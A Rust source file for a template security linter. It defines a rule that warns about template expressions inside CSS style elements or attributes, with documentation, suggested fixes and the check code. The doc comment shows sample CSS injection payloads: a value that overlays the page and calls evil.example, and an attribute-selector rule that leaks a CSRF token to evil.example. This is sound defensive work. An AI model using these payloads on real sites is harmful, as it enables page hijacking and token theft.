use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{AttributeUse, Event, Finding, Parts};

lint! {
    /// # What it does
    ///
    /// Looks for an expression in a `style` element or a `style` attribute. A number is fine: `{{ width|int }}`, `{{ loop.index }}`.
    ///
    /// # Why it matters
    ///
    /// CSS has its own syntax, which template engines do not escape: `;`, `}` and `url(` reach the browser as they are.
    ///
    /// # Attack
    ///
    /// A profile has a color that its owner chooses. As `red;position:fixed;inset:0;background:url(https://evil.example/?seen)` it
    /// covers the page, and tells another site who has opened it. In a `style` element, a value can add rules with selectors, which read
    /// attributes of the page letter by letter:
    ///
    /// ```html
    /// <style>input[name=csrf][value^=a] { background: url(https://evil.example/a) }</style>
    /// ```
    ///
    /// # Example
    ///
    /// ```html
    /// <style nonce="{{ nonce }}">.name { color: {{ user.color }} }</style>
    /// ```
    ///
    /// # Fix
    ///
    /// A class for each choice, in a stylesheet, and a number where there is no other way:
    ///
    /// ```html
    /// <p class="color-{{ user.color }}">
    /// <style nonce="{{ nonce }}">.bar { width: {{ percent|int }}% }</style>
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable where the application checks the value.
    ///
    /// ```html
    /// {# security_policy: allow(template_expression_in_style, reason = "`Color` has six hexadecimal digits") #}
    /// <style nonce="{{ nonce }}">.name { color: {{ user.color }} }</style>
    /// ```
    ///
    /// # References
    ///
    /// - [OWASP, Cross Site Scripting Prevention](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
    /// - [CSS Syntax Level 3, declarations](https://www.w3.org/TR/css-syntax-3/#declaration)
    /// - [Heiderich and others, Scriptless Attacks](https://dl.acm.org/doi/10.1145/2382196.2382276)
    Warn "an expression in a style" page,
    cwe [116], asvs ["1.2.1"],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    match event {
        Event::Raw { element, content } if element.is("style") => check_style(content, context, report),
        Event::Start(element) => {
            for (_, value, _) in element.uses().filter(|(.., used)| *used == AttributeUse::Style) {
                check_style(value, context, report);
            }
        }
        _ => {}
    }
}

fn check_style(style: &Parts<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    for output in style.outputs().filter(|output| !output.is_fixed()) {
        let tag = context.shown(output);
        let help = match context.files.text(output.place) == output.expression {
            // A statement, whose content is not known.
            true => "write the style out, or move it into a stylesheet".to_owned(),
            // No helper of it prints numbers only.
            false if context.is_handlebars() => "write a class for each choice".to_owned(),
            false => {
                format!("write a class for each choice, or print a number: `{}`", context.with_filter(output, "int"))
            }
        };
        report.push(
            Finding::new(output.place, format!("`{tag}` is part of a style, where escaping does not protect"))
                .help(help)
                .note("a value such as `red;position:fixed;inset:0` covers the page, and `url(…)` in it sends requests elsewhere"),
        );
    }
}
